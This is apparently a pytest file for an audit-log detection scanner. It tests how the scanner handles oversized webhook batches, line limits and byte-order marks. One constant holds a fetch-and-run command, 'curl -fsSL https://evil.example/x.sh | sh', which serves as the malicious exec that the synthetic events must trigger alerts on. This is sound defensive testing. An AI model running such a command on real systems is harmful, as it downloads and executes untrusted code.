"""``auditstream scan`` on real files: a webhook batch bigger than a message is evaluated event by
event, a line beyond the line limit is skipped without stopping the scan, and a byte-order mark
at the start of a file (or copied into a shipper's record) changes nothing."""

from __future__ import annotations

import io
import json
import random
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from auditstream.detections.alert_window import RecentAlerts
from auditstream.detections.engine import Detector
from auditstream.detections.pipeline import DetectionPipeline
from auditstream.detections.ruleset.loader import load_rules
from auditstream.stream.cli.main import EXIT_OK, main
from auditstream.stream.cli.scan import DEAD_LETTER_HEAD_BYTES, scan
from auditstream.stream.sinks.json_lines import JsonLinesAlertSink
from devtools.traffic.synthetic import exec_audit_events, routine_audit_event

START = datetime(2025, 1, 15, 10, 0, tzinfo=UTC)
MALICIOUS = ("sh", "-c", "curl -fsSL https://evil.example/x.sh | sh")
BOM = b"\xef\xbb\xbf"


def run_scan(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[list[str], str]:
    """``auditstream scan ARGS``: the alert ids (in order) and stderr."""
    assert main(["scan", *args]) == EXIT_OK
    out, err = capsys.readouterr()
    return [json.loads(line)["alert_id"] for line in out.splitlines()], err


def line(obj: object) -> bytes:
    return json.dumps(obj, separators=(",", ":")).encode() + b"\n"


def events(count: int, seed: int) -> list[dict[str, Any]]:
    """Routine events with malicious execs among them (every stage of each)."""
    rng = random.Random(seed)
    out: list[dict[str, Any]] = []
    for index in range(count):
        out.append(routine_audit_event(rng, START))
        if index % 500 == 0:
            out.extend(exec_audit_events(command=MALICIOUS, rng=rng, start=START))
    return out


def as_list_item(event: dict[str, Any]) -> dict[str, Any]:
    """An EventList item as the webhook backend writes it: no kind, no apiVersion."""
    return {k: v for k, v in event.items() if k not in ("kind", "apiVersion")}


def test_a_webhook_batch_of_24_mb_is_evaluated_event_by_event(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    batch = events(16_000, seed=10)
    huge = {**routine_audit_event(random.Random(1), START), "pad": "p" * 1_500_000}
    big_int = {**routine_audit_event(random.Random(2), START), "n": 2**80}
    items: list[object] = [as_list_item(e) for e in batch]
    items[100:100] = [as_list_item(huge), 42, as_list_item(big_int)]  # entries 100, 101, 102
    event_list = {"kind": "EventList", "apiVersion": "audit.k8s.io/v1", "items": items}
    batched = tmp_path / "webhook.jsonl"
    batched.write_bytes(line({"kind": "Event"}) + line(event_list))  # line 1: not audit data
    assert batched.stat().st_size > 24_000_000
    one_per_line = tmp_path / "events.jsonl"
    one_per_line.write_bytes(b"".join(line(e) for e in [*batch, big_int]))
    dead = tmp_path / "dead.jsonl"

    ids, err = run_scan(capsys, "--dead-letter", str(dead), str(batched))
    expected, _ = run_scan(capsys, str(one_per_line))
    assert ids and ids == expected  # the same alerts, in the same order
    assert f"{len(batch) + 1} events" in err
    letters = [json.loads(text) for text in dead.read_text().splitlines()]
    assert [(d["line"], d.get("entry"), d["reason"]) for d in letters] == [
        (1, None, "unknown_shape"),
        (2, 100, "oversized"),
        (2, 101, "unknown_shape"),
    ]
    assert json.loads(letters[1]["value"])["pad"] == huge["pad"]  # the event itself
    assert "malformed" in err and f"{batched}:2 entry 100: oversized" in err


def test_a_json_array_line_is_split_too_and_one_big_event_is_still_oversized(
    tmp_path: Path,
) -> None:
    pipeline = DetectionPipeline(
        Detector(load_rules([]).rules), RecentAlerts(1000), max_message_bytes=100_000
    )
    array = events(300, seed=11)
    single = {**array[0], "pad": "p" * 200_000}
    path = tmp_path / "mixed.jsonl"
    path.write_bytes(line(array) + line(single))
    out = io.StringIO()
    summary = scan([str(path)], pipeline, JsonLinesAlertSink(out))
    assert len(json.dumps(array)) > 100_000 and summary.events == len(array)
    assert summary.alerts > 0 and len(out.getvalue().splitlines()) == summary.alerts
    [bad] = summary.malformed
    assert (bad.line, bad.entry, bad.reason) == (2, None, "oversized")


def test_a_line_beyond_the_line_limit_is_skipped_and_the_scan_goes_on(tmp_path: Path) -> None:
    pipeline = DetectionPipeline(Detector(load_rules([]).rules), RecentAlerts(1000))
    execs = exec_audit_events(command=MALICIOUS, start=START)
    path = tmp_path / "long.jsonl"
    long_line = b'{"kind":"EventList","items":[' + b"9," * 150_000 + b"9]}\n"
    path.write_bytes(line(execs[0]) + long_line + b"".join(line(e) for e in execs[1:]))
    out = io.StringIO()
    dead = io.StringIO()
    summary = scan(
        [str(path)], pipeline, JsonLinesAlertSink(out), dead_letter=dead, max_line_bytes=200_000
    )
    assert summary.lines == 1 + 1 + len(execs) - 1
    assert summary.events == len(execs) and summary.alerts > 0
    [bad] = summary.malformed
    assert (bad.line, bad.reason) == (2, "oversized")
    assert bad.detail == f"line of {len(long_line)} bytes exceeds the line limit of 200000"
    [letter] = [json.loads(text) for text in dead.getvalue().splitlines()]
    assert letter["original_bytes"] == len(long_line) and letter["truncated"] is True
    assert long_line.startswith(letter["value"].encode())
    assert len(letter["value"]) == DEAD_LETTER_HEAD_BYTES


def test_a_byte_order_mark_at_the_start_of_a_file_changes_nothing(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    execs = exec_audit_events(command=MALICIOUS, start=START)
    plain = b"".join(line(e) for e in execs)
    without, with_bom = tmp_path / "plain.jsonl", tmp_path / "bom.jsonl"
    without.write_bytes(plain)
    with_bom.write_bytes(BOM + plain)
    expected, _ = run_scan(capsys, str(without))
    ids, err = run_scan(capsys, str(with_bom))
    assert expected and ids == expected and ", 0 malformed" in err


def test_a_byte_order_mark_a_shipper_copied_into_a_record_changes_nothing(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """fluent-bit tailing an audit log written with a BOM: the first record's ``log`` starts with
    it (and the file the shipper writes may start with one too)."""
    execs = exec_audit_events(command=MALICIOUS, start=START)
    texts = [json.dumps(e) for e in execs]
    plain = tmp_path / "plain.jsonl"
    plain.write_bytes(b"".join(line({"log": t, "stream": "stdout"}) for t in texts))
    shipped = tmp_path / "shipped.jsonl"
    texts[0] = "\ufeff" + texts[0]
    shipped.write_bytes(BOM + b"".join(line({"log": t, "stream": "stdout"}) for t in texts))
    expected, _ = run_scan(capsys, str(plain))
    ids, err = run_scan(capsys, str(shipped))
    assert expected and ids == expected and ", 0 malformed" in err
